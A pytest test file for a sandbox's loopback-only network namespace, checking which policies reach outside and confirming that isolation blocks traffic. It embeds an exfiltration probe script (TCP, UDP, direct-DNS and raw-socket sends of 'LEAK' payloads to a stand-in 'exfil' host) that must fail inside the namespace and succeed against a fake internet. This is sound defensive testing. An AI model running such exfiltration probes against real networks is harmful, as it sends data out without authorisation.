"""The loopback-only layer: a policy that reaches nothing outside gets a namespace with only `lo`.

sandbox/net/rung_lo.py: no veth, no route, no nftables.  Every attack below runs twice:
inside the session's namespace (without the supervisor, so the namespace is judged alone)
where it must fail and reach nothing, and - the control - in landgate's own namespace,
where the same code must reach the fake internet.  Without the namespace the attack tests
therefore fail (the control proves the attack is real).  The allowed twins: the private
loopback, an allowed host loopback port, the DNS view (denied names recorded with the name).
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import RecordingServer, require_root, scaled

from sandbox.audit.event import DecisionEvent
from sandbox.host.network import LOOPBACK_ONLY_LAYER
from sandbox.plan.names import reaches_outside
from sandbox.policy import load_policy_text

from .conftest import ADDRS, FakeInet, net_session, run_in_sandbox, wait_for

DENY_ALL = """\
version: 1
actions:
  - action: network
    defaultEffect: deny
"""


def _policy(rules: str, default: str = "deny"):
    text = f"version: 1\nactions:\n  - action: network\n    defaultEffect: {default}\n"
    if rules:
        text += "    rules:\n" + "".join(f"      - {r}\n" for r in rules.split(";"))
    return load_policy_text(text, source="t.yaml", cwd=Path("/tmp"))


@pytest.mark.parametrize(
    "rules",
    [
        "",
        "{ destination: 'localhost:8080', effect: allow }",
        "{ destination: 'localhost', effect: allow }",
        "{ destination: '127.0.0.1:5432', effect: allow }",
        "{ destination: '[::1]:5432', effect: allow }",
        "{ destination: '127.0.0.0/8', effect: allow }",
        "{ destination: 'unix:/run/docker.sock', effect: allow }",
        "{ destination: 'exfil.test', effect: deny };{ destination: '10.0.0.0/8', effect: deny }",
    ],
)
def test_policies_that_reach_nothing_outside(rules: str) -> None:
    assert not reaches_outside(_policy(rules))


@pytest.mark.parametrize(
    ("rules", "default"),
    [
        ("", "allow"),
        ("{ destination: 'allowed.test', effect: allow }", "deny"),
        ("{ destination: '*.npmjs.org', effect: allow }", "deny"),
        ("{ destination: '10.200.1.40', effect: allow }", "deny"),
        ("{ destination: '0.0.0.0/0:443', effect: allow }", "deny"),
        ("{ destination: '126.0.0.0/7', effect: allow }", "deny"),  # covers 127/8 and more
        ("{ destination: '*:443', effect: allow }", "deny"),
        (
            (
                "{ destination: 'localhost:8080', effect: allow };"
                "{ destination: 'x.test', effect: allow }"
            ),
            "deny",
        ),
    ],
)
def test_policies_that_reach_outside_keep_the_full_layer(rules: str, default: str) -> None:
    """The twin: any allow that can match a non-loopback address needs the veth + nftables."""
    assert reaches_outside(_policy(rules, default))


# Each attack prints one word per attempt: "reached" when it got through.
ATTACKS = f"""
import json, socket, errno
from dnslib import DNSRecord
out = {{}}
def attempt(key, fn):
    try:
        fn(); out[key] = "reached"
    except OSError as e:
        out[key] = errno.errorcode.get(e.errno, str(e.errno))
def tcp4():
    s = socket.create_connection(("{ADDRS["exfil"]}", 80), timeout=3); s.close()
def tcp6():
    s = socket.create_connection(("{ADDRS["v6_denied"]}", 80), timeout=3); s.close()
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"LEAK-udp-sendto", ("{ADDRS["exfil"]}", 9999))
def dns():
    q = DNSRecord.question("leak-direct-dns.exfil.test").pack()
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    s.sendto(q, ("{ADDRS["dns"]}", 53)); s.recv(512)
def raw():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    s.sendto(b"\\x30\\x39\\x27\\x0f\\x00\\x14\\x00\\x00LEAK-raw-udp", ("{ADDRS["exfil"]}", 0))
for key, fn in (("tcp4", tcp4), ("tcp6", tcp6), ("udp", udp), ("dns", dns), ("raw", raw)):
    attempt(key, fn)
out["links"] = sorted(n for _, n in socket.if_nameindex())
print(json.dumps(out))
"""


def _leaks(fake: FakeInet, mark: int) -> list[dict]:
    return [
        e
        for e in fake.since(mark)
        if e.get("local") == ADDRS["exfil"]
        or e.get("local") == ADDRS["v6_denied"]
        or "LEAK" in str(e.get("data"))
        or str(e.get("name", "")).startswith("leak-direct")
    ]


def test_attacks_fail_in_the_namespace_and_reach_the_fake_internet_without_it(
    fake_inet: FakeInet,
) -> None:
    require_root()
    events: list[DecisionEvent] = []
    ns = net_session(DENY_ALL, fake_inet, events)
    setup = ns.prepare()
    try:
        assert setup.layer == LOOPBACK_ONLY_LAYER and setup.rung == "netns"
        assert setup.ruleset_json == {"nftables": []}
        mark = fake_inet.mark()
        proc = run_in_sandbox(ns, ATTACKS)
        assert proc.returncode == 0, proc.stderr
        inside = json.loads(proc.stdout)
        # No route: the kernel refuses at once (nothing is sent, nothing to time out).
        assert inside == {
            "tcp4": "ENETUNREACH",
            "tcp6": "ENETUNREACH",
            "udp": "ENETUNREACH",
            "dns": "ENETUNREACH",
            "raw": "ENETUNREACH",
            "links": ["lo"],
        }, inside
        assert not wait_for(lambda: _leaks(fake_inet, mark), timeout=1)
    finally:
        ns.close()
    # The control: the same code in landgate's namespace reaches the fake internet, so
    # it is the namespace that stopped it above.
    mark = fake_inet.mark()
    ctl = subprocess.run(
        [sys.executable, "-c", ATTACKS],
        capture_output=True,
        text=True,
        timeout=scaled(30),
        check=False,
    )
    assert ctl.returncode == 0, ctl.stderr
    outside = json.loads(ctl.stdout)
    assert all(outside[k] == "reached" for k in ("tcp4", "tcp6", "udp", "dns", "raw")), outside
    assert wait_for(lambda: len(_leaks(fake_inet, mark)) >= 4)


def test_dns_view_records_denied_names_and_private_loopback_works(fake_inet: FakeInet) -> None:
    """The allowed twins: the DNS view listens on the sandbox's own 127.0.0.1:53 (denied
    names are NXDOMAIN and recorded with the name, never asked upstream), the private
    loopback carries TCP and UDP, and an allowed host loopback port is forwarded."""
    require_root()
    allowed, denied = RecordingServer(), RecordingServer()
    events: list[DecisionEvent] = []
    policy = DENY_ALL + (
        f"    rules:\n      - {{ destination: 'localhost:{allowed.port}', effect: allow }}\n"
    )
    ns = net_session(policy, fake_inet, events)
    try:
        setup = ns.prepare()
        assert setup.layer == LOOPBACK_ONLY_LAYER
        assert setup.dns_view == "127.0.0.1"
        assert allowed.port in setup.forwarded_loopback_ports
        assert denied.port not in setup.forwarded_loopback_ports
        code = f"""
import socket, threading
out = []
try:
    socket.getaddrinfo("exfil.test", 80, socket.AF_INET)
    out.append("resolved")
except socket.gaierror as e:
    out.append("nxdomain" if e.errno == socket.EAI_NONAME else "gaierror")
srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen(1)
def serve():
    c, _ = srv.accept(); c.sendall(b"own"); c.close()
threading.Thread(target=serve).start()
c = socket.create_connection(srv.getsockname(), timeout=3); out.append(c.recv(8).decode())
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("127.0.0.1", 0))
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"dgram", u.getsockname())
u.settimeout(3); out.append(u.recv(8).decode())
for port, msg in (({allowed.port}, b"to-allowed-host"), ({denied.port}, b"LEAK-denied-host")):
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=3)
        s.recv(10); s.sendall(msg); s.close(); out.append("host-ok")
    except OSError as e:
        out.append(type(e).__name__)
print(" ".join(out))
"""
        mark = fake_inet.mark()
        proc = run_in_sandbox(ns, code)
        assert proc.returncode == 0, proc.stderr
        assert proc.stdout.split() == [
            "nxdomain",
            "own",
            "dgram",
            "host-ok",
            "ConnectionRefusedError",
        ], proc.stdout
        assert wait_for(lambda: b"to-allowed-host" in bytes(allowed.received))
        assert denied.connections == 0 and b"LEAK" not in bytes(denied.received)
        deny = [e for e in events if e.result == "deny" and e.layer == "dns"]
        assert any(e.target == "exfil.test" for e in deny), events
        assert not any(e.get("kind") == "dns" for e in fake_inet.since(mark))
    finally:
        ns.close()
        allowed.close()
        denied.close()


def test_leaves_no_table_no_veth_no_run_dir(fake_inet: FakeInet) -> None:
    """What the full layer makes and the loopback-only one must not (and close is clean)."""
    require_root()
    from sandbox.net.netns import RUN_DIR

    ns = net_session(DENY_ALL, fake_inet)
    ns.prepare()
    try:
        tag = ns.names.netns
        tables = subprocess.run(
            ["nft", "list", "tables"], capture_output=True, text=True, check=True
        ).stdout
        links = subprocess.run(
            ["ip", "-o", "link"], capture_output=True, text=True, check=True
        ).stdout
        assert tag not in tables and ns.names.host_if not in links
        assert not (RUN_DIR / tag).exists()
    finally:
        ns.close()
